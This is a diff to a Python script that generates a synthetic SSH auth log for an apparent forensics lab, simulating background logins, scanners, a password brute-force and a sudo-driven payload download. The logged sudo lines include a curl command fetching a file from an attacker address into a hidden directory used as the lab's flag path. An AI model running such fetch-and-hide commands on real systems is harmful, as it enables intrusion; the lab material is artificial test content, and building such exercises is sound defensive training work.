@@ -3,7 +3,9 @@
 Deterministic (fixed seed). Background: cron sessions, staff logging in with keys
 and passwords from the office network, scattered scanners trying common names.
 The attack: one address tries hundreds of passwords, then logs in as `deploy`
-and uses sudo to fetch a payload into /tmp/.x.
+and uses sudo to fetch a payload into a hidden folder, DROP_DIR, that only the
+sudo lines name. Like real sshd, a name that exists on the server (KNOWN_USERS)
+is never an "invalid user"; like real sudo, sudo lines carry no process id.
 Usage: make_auth_log.py LOG_PATH ANSWER_DIR
 """
 
@@ -19,6 +21,9 @@ OFFICE = ["10.20.0.11", "10.20.0.15", "10.20.0.23"]
 SCANNERS = ["198.51.100.23", "198.51.100.177", "203.0.113.201", "192.0.2.150"]
 NAMES = ["root", "admin", "test", "oracle", "ubuntu", "user", "git", "postgres", "pi", "ftp"]
 PASSWORDS_TRIED_FOR = ["root", "admin", "deploy", "ubuntu", "deploy", "deploy", "www"]
+ALICE_KEY = "q5Zb1oYFz3n8mJc0w2LrT7vKxS9dH4gUaE6pN1yRjQo"
+KNOWN_USERS = {"root", "deploy", "alice"}  # accounts of the server (the lab image has them)
+DROP_DIR = "/var/cache/debconf/.upd"  # the lab's flag path is DROP_DIR/update.txt
 
 
 class AuthLog:
@@ -36,8 +41,9 @@ class AuthLog:
         self.lines.append((moment, group, program, message))
         return group
 
-    def ssh_failure(self, moment: datetime, user: str, ip: str, known: bool) -> None:
+    def ssh_failure(self, moment: datetime, user: str, ip: str) -> None:
         port = self.rng.randint(32768, 60999)
+        known = user in KNOWN_USERS
         invalid = "" if known else "invalid user "
         if not known:
             group = self.add(moment, "sshd", f"Invalid user {user} from {ip} port {port}")
@@ -50,6 +56,8 @@ class AuthLog:
     def ssh_login(self, moment: datetime, user: str, ip: str, method: str = "password") -> int:
         port = self.rng.randint(32768, 60999)
         message = f"Accepted {method} for {user} from {ip} port {port} ssh2"
+        if method == "publickey":  # sshd names the key by its fingerprint
+            message += f": ED25519 SHA256:{ALICE_KEY}"
         group = self.add(moment, "sshd", message)
         uid = {"deploy": 1001, "alice": 1002}.get(user, 0)
         self.add(
@@ -80,7 +88,8 @@ class AuthLog:
             if group not in pids:
                 next_pid += self.rng.randint(1, 40)
                 pids[group] = next_pid
-            out.append(f"{moment:%b %e %H:%M:%S} {HOST} {program}[{pids[group]}]: {message}\n")
+            tag = program if program == "sudo" else f"{program}[{pids[group]}]"  # sudo: no pid
+            out.append(f"{moment:%b %e %H:%M:%S} {HOST} {tag}: {message}\n")
         Path(path).write_text("".join(out))
 
 
@@ -109,11 +118,9 @@ def background(log: AuthLog, day: datetime) -> None:
     for ip in SCANNERS:
         start = day + timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59))
         for attempt in range(rng.randint(6, 25)):
-            log.ssh_failure(
-                start + timedelta(seconds=attempt * 3), rng.choice(NAMES), ip, known=False
-            )
+            log.ssh_failure(start + timedelta(seconds=attempt * 3), rng.choice(NAMES), ip)
     # A tired colleague mistypes a password once.
-    log.ssh_failure(day + timedelta(hours=10, minutes=3), "deploy", OFFICE[1], known=True)
+    log.ssh_failure(day + timedelta(hours=10, minutes=3), "deploy", OFFICE[1])
     log.ssh_login(day + timedelta(hours=10, minutes=4), "deploy", OFFICE[1])
 
 
@@ -123,19 +130,19 @@ def attack(log: AuthLog, day: datetime) -> None:
     for _ in range(340):
         moment += timedelta(seconds=rng.randint(1, 4))
         user = rng.choice(PASSWORDS_TRIED_FOR + NAMES)
-        log.ssh_failure(moment, user, ATTACKER_IP, known=user in ("root", "deploy"))
+        log.ssh_failure(moment, user, ATTACKER_IP)
     moment += timedelta(seconds=3)
     log.ssh_login(moment, VICTIM, ATTACKER_IP)
     home = f"/home/{VICTIM}"
     log.sudo(moment + timedelta(minutes=1), VICTIM, home, "/usr/bin/id")
-    log.sudo(moment + timedelta(minutes=2), VICTIM, home, "/usr/bin/mkdir -p /tmp/.x")
+    log.sudo(moment + timedelta(minutes=2), VICTIM, home, f"/usr/bin/mkdir -p {DROP_DIR}")
     log.sudo(
         moment + timedelta(minutes=3),
         VICTIM,
         home,
-        "/usr/bin/curl -s -o /tmp/.x/payload.txt http://203.0.113.47/p.txt",
+        f"/usr/bin/curl -s -o {DROP_DIR}/update.txt http://{ATTACKER_IP}/u.txt",
     )
-    log.sudo(moment + timedelta(minutes=4), VICTIM, home, "/usr/bin/chmod 755 /tmp/.x")
+    log.sudo(moment + timedelta(minutes=4), VICTIM, home, f"/usr/bin/chmod 755 {DROP_DIR}")
 
 
 def main(log_path: str, answer_dir: str) -> None:
